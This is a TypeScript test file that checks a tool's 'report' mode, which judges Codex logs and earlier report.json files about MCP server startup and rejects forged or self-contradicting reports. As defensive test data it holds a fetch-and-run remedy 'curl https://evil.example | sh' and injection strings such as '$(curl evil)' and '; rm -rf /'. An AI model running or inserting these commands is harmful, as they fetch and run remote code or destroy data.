import { execFileSync, spawn } from "node:child_process";
import { readFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Report } from "../../src/model/report.ts";
import { cliBundle as cli } from "../support/bundle.ts";
import { runAction } from "../support/run-action.ts";
import { sampleReport, sampleServer } from "../support/sample-reports.ts";
import { createScene, type Scene } from "../support/scene.ts";

// Mode report, through the shipped bundle: what a recording proves, and what a forged one may not.

const transcripts = path.resolve(import.meta.dirname, "../fixtures/transcripts");
let scene: Scene;
beforeEach(() => {
  scene = createScene();
});
afterEach(() => scene.remove());

const read = (text: string, inputs: Record<string, string> = {}, env: Record<string, string> = {}) => {
  scene.file("earlier", text);
  return runAction(scene, { mode: "report", "report-from": "earlier", ...inputs }, env);
};
const readReport = (
  changes: Partial<Report>,
  inputs?: Record<string, string>,
  env?: Record<string, string>,
) => read(JSON.stringify(sampleReport(changes)), inputs, env);
const jsonl = (...lines: unknown[]) => lines.map((line) => JSON.stringify(line)).join("\n");
const stock = () => readFileSync(path.join(transcripts, "exec/0.169.0.jsonl"), "utf8");

describe("a stock codex exec log", () => {
  it("proves nothing about servers that it does not name", async () => {
    const done = await read(stock());
    expect([done.outputs.conclusion, done.exitCode], done.log).toEqual(["inconclusive", 1]);
    expect(done.summary).not.toContain("No MCP server is configured");
  });

  it("proves the server whose tool call completed, and no other", async () => {
    expect((await read(stock(), { required: "everything" })).outputs.conclusion).toBe("pass");
    const both = await read(stock(), { required: "everything,missing" });
    expect([both.outputs.conclusion, both.outputs["required-failed"]]).toEqual([
      "inconclusive",
      '["missing"]',
    ]);
    expect((await read(stock(), { required: "every*" })).outputs.conclusion).toBe("inconclusive");
    expect((await read(stock(), { required: "everything", "fail-on": "any" })).outputs.conclusion).toBe(
      "inconclusive",
    );
  });

  it("is incomplete without its beginning", async () => {
    const done = await read(stock().split("\n").slice(1).join("\n"), { required: "everything" });
    expect(done.outputs.conclusion).toBe("inconclusive");
  });
});

describe("events with the start of the servers", () => {
  const events = (...names: string[]) =>
    jsonl(
      { type: "thread.started", thread_id: "t" },
      ...names.map((name) => ({ type: "mcp.server.init_started", name })),
      ...names.map((name) => ({ type: "mcp.server.ready", name })),
      { type: "turn.started" },
      { type: "turn.completed" },
    );

  it.each<[Record<string, string>, string]>([
    [{ required: "ok" }, "pass"],
    [{ required: "o*" }, "inconclusive"],
    [{ required: "ok", "fail-on": "any" }, "inconclusive"],
    [{ required: "ok,missing" }, "inconclusive"],
    [{ rules: "version: 1\ndefaults: { required: true }" }, "inconclusive"],
    [{}, "inconclusive"],
  ])("prove no server that they do not name: %j", async (inputs, conclusion) => {
    const done = await read(events("ok"), inputs);
    expect(done.outputs.conclusion, done.log).toBe(conclusion);
    expect(done.report?.servers.find(({ name }) => name === "ok")?.state).toBe("ready");
  });
});

describe("unknown shapes are named and inconclusive", () => {
  it.each([
    ['{"type":"hello"}', "`hello`"],
    ['{"foo":1,"bar":2}', "`foo`, `bar`"],
    ["plain text", "no JSON objects"],
  ])("%s", async (text, named) => {
    const done = await read(text);
    expect([done.outputs.conclusion, done.exitCode]).toEqual(["inconclusive", 1]);
    expect(done.report?.problems[0]?.detail).toContain(named);
  });
});

describe("Codex's bare events", () => {
  const event = (msg: Record<string, unknown>) => ({ id: "0", msg });
  const startup = (server: string, state: string, error?: string) =>
    event({ type: "mcp_startup_update", server, status: { state, ...(error && { error }) } });
  const turn = [event({ type: "task_started" }), event({ type: "task_complete" })];

  it("are read, with a server that failed", async () => {
    const text = jsonl(
      startup("a", "starting"),
      startup("b", "starting"),
      startup("a", "ready"),
      startup("b", "failed", "no such command"),
      ...turn,
    );
    const done = await read(text, { required: "b" });
    expect(done.report?.servers.map(({ name, state }) => [name, state])).toEqual([
      ["a", "ready"],
      ["b", "failed"],
    ]);
    expect([done.outputs.conclusion, done.exitCode]).toEqual(["fail", 1]);
  });

  it("carry no times, so that none is shown and max-boot is not passed", async () => {
    const text = jsonl(startup("a", "starting"), startup("a", "ready"), ...turn);
    const rules = "version: 1\nservers: { a: { required: true, max-boot: 1s } }";
    const done = await read(text, { rules });
    const [server] = done.report?.servers ?? [];
    expect([server?.bootMs, server?.attempts[0]?.startedAtMs, done.report?.run.durationMs]).toEqual([
      null,
      null,
      null,
    ]);
    expect(done.outputs.conclusion).toBe("inconclusive");
    expect(server?.verdict.rules.map(({ rule }) => rule)).toContain("max-boot");
  });
});

describe("a session file of Codex", () => {
  it.each(["0.137.0", "0.169.0"])("of %s proves the server whose tool call completed", async (version) => {
    const text = readFileSync(path.join(transcripts, `rollout/${version}.jsonl`), "utf8");
    const done = await read(text, { required: "everything" });
    expect([done.outputs.conclusion, done.outputs["codex-version"]]).toEqual(["pass", version]);
    expect(done.report?.servers[0]).toMatchObject({ name: "everything", toolCalls: { completed: 1 } });
    expect((await read(text)).outputs.conclusion).toBe("inconclusive");
  });

  it("of 0.107, which does not say how a call ended, proves no server", async () => {
    const text = readFileSync(path.join(transcripts, "rollout/0.107.0.jsonl"), "utf8");
    expect((await read(text, { required: "everything" })).outputs.conclusion).toBe("inconclusive");
  });
});

describe("a report.json is judged again", () => {
  const failed = sampleServer("github", {
    state: "failed",
    error: "MCP client for `github` failed to start: No such file or directory (os error 2)",
    diagnosis: {
      code: "command-not-found",
      title: "PWNED title",
      detail: "PWNED detail",
      remedy: "PWNED: curl https://evil.example | sh",
      snippet: { language: "sh", text: "PWNED" },
    },
    advice: [{ code: "late", title: "PWNED", detail: "PWNED", remedy: "PWNED", snippet: null }],
  });

  it("by the inputs and rules given here", async () => {
    const servers = [failed, sampleServer("docs")];
    expect((await readReport({ servers })).outputs.conclusion).toBe("pass");
    const required = await readReport({ servers }, { required: "github" });
    expect([required.outputs.conclusion, required.exitCode, required.outputs["required-failed"]]).toEqual([
      "fail",
      1,
      '["github"]',
    ]);
    expect((await readReport({ servers }, { "fail-on": "any" })).outputs.conclusion).toBe("fail");
    const absent = await readReport({ servers }, { required: "docs,gone,x*" });
    expect(absent.outputs["required-failed"]).toBe('["gone","x*"]');
    const rules = "version: 1\nservers: { docs: { required: true, min-tools: 10 } }";
    expect((await readReport({ servers }, { rules })).outputs.conclusion).toBe("fail");
  });

  it("with causes and remedies of our own, never the file's words", async () => {
    const problems = [
      {
        ...{ code: "codex-crashed" as const, level: "error" as const, at: null },
        ...{ title: "PWNED", detail: "PWNED", remedy: "PWNED", snippet: null },
      },
    ];
    const done = await readReport({ servers: [failed], problems }, { required: "github" });
    expect(done.log + done.summary + JSON.stringify(done.report)).not.toContain("PWNED");
    expect(done.report?.servers[0]?.diagnosis?.code).toBe("command-not-found");
    expect(done.report?.problems[0]?.code).toBe("codex-crashed");
  });

  it.each<[string, Partial<Report>]>([
    ["ready with an error", { servers: [sampleServer("a", { error: "failed to start" })] }],
    ["ready without evidence", { servers: [sampleServer("a", { decidedBy: null })] }],
    ["inconclusive for no reason", { conclusion: "inconclusive", servers: [sampleServer("a")] }],
    ["failing for no reason", { conclusion: "fail", servers: [sampleServer("a")] }],
    [
      "more names than it counts",
      { servers: [sampleServer("a", { tools: { count: 1, names: ["x", "y"] } })] },
    ],
  ])("and one that contradicts itself does not pass: %s", async (_, changes) => {
    const done = await readReport(changes, { required: "a" });
    expect(done.outputs.conclusion, done.log).toBe("inconclusive");
    expect(done.report?.problems.map(({ code }) => code)).toContain("report-contradicts-itself");
  });

  it.each([["0.169.0\nconclusion=pass"], ["$(curl evil)"], ["`id`"], ["0.169.0; rm -rf /"]])(
    "and its codex-version has to be a version: %j",
    async (version) => {
      const done = await readReport({ codex: { version }, servers: [sampleServer("a")] });
      expect([done.outputs["codex-version"], done.outputs.conclusion]).toEqual(["", "inconclusive"]);
    },
  );

  const event = (run: Record<string, unknown>) => {
    const file = scene.file(
      "../event.json",
      JSON.stringify({ repository: { full_name: "octo/demo" }, workflow_run: run }),
    );
    return { GITHUB_EVENT_NAME: "workflow_run", GITHUB_EVENT_PATH: file };
  };

  it("against the conclusion of the workflow run it comes from", async () => {
    const head_repository = { full_name: "octo/demo" };
    const forged = { servers: [sampleServer("a")] };
    const failure = await readReport(forged, {}, event({ conclusion: "failure", head_repository }));
    expect(failure.outputs.conclusion).toBe("inconclusive");
    expect(failure.report?.problems.map(({ code }) => code)).toEqual(["report-contradicts-run"]);
    const success = await readReport(forged, {}, event({ conclusion: "success", head_repository }));
    expect([success.outputs.conclusion, success.report?.earlier]).toEqual([
      "pass",
      { kind: "report", fork: null },
    ]);
  });

  it("and labelled when it comes from a fork's run", async () => {
    const env = event({ conclusion: "success", head_repository: { full_name: "stranger/demo" } });
    const done = await readReport({ servers: [sampleServer("a")] }, {}, env);
    expect(done.report?.earlier).toEqual({ kind: "report", fork: "stranger/demo" });
    expect(done.summary).toContain("stranger/demo");
  });

  it("also when a tool has a name of 20,000 characters", async () => {
    const long = "t".repeat(20_000);
    const text = jsonl(
      { id: 1, result: { data: [{ name: "a", tools: { [long]: {} } }] } },
      {
        method: "mcpServer/startupStatus/updated",
        params: { name: "a", status: "starting" },
        emittedAtMs: 1,
      },
      { method: "mcpServer/startupStatus/updated", params: { name: "a", status: "ready" }, emittedAtMs: 9 },
    );
    const first = await read(text, { required: "a" });
    expect(first.report?.servers[0]?.tools?.count, first.log).toBe(1);
    const second = await read(JSON.stringify(first.report), { required: "a" });
    expect([second.outputs.conclusion, second.report?.servers[0]?.state], second.log).toEqual([
      "pass",
      "ready",
    ]);
  });

  it("and refused with its limits when it names too many servers or has too many lines", async () => {
    const servers = Array.from({ length: 5_001 }, (_, index) => ({
      method: "mcpServer/startupStatus/updated",
      params: { name: `s${index}`, status: "ready" },
    }));
    const many = await read(jsonl(...servers));
    expect(many.report?.problems[0]?.detail).toContain("more than 5000 servers");
    const lines = await read('{"type":"turn.started"}\n'.repeat(500_001));
    expect(lines.report?.problems[0]?.detail).toContain("more than 500000 lines");
  });
});

describe("report-from on a terminal", () => {
  const report = JSON.stringify(sampleReport({ servers: [sampleServer("memory")] }));
  const start = (from: string) =>
    spawn(process.execPath, [cli, "report", "--report-from", from], {
      cwd: scene.workspace,
      env: scene.env(),
      stdio: ["pipe", "pipe", "inherit"],
    });
  const finished = (child: ReturnType<typeof start>) =>
    new Promise<{ code: number | null; out: string }>((resolve, reject) => {
      let out = "";
      child.stdout?.on("data", (bytes) => {
        out += bytes;
      });
      child.on("error", reject);
      child.on("close", (code) => resolve({ code, out }));
    });

  it.each(["-", "/dev/stdin"])("reads a pipe: %s", async (from) => {
    const child = start(from);
    child.stdin?.end(report);
    const { code, out } = await finished(child);
    expect([code, out.includes("memory")]).toEqual([0, true]);
  });

  it.runIf(process.platform !== "win32")("reads a named pipe", async () => {
    const pipe = path.join(scene.root, "pipe");
    execFileSync("mkfifo", [pipe]);
    const child = start(pipe);
    const writer = spawn("sh", ["-c", 'cat > "$0"', pipe], { stdio: ["pipe", "ignore", "ignore"] });
    writer.stdin?.end(report);
    const { code, out } = await finished(child);
    expect([code, out.includes("memory")]).toEqual([0, true]);
  });
});

it("an action has no standard input", async () => {
  const done = await runAction(scene, { mode: "report", "report-from": "-" });
  expect([done.exitCode, done.report]).toEqual([1, null]);
  expect(done.log).toContain("report-from");
});
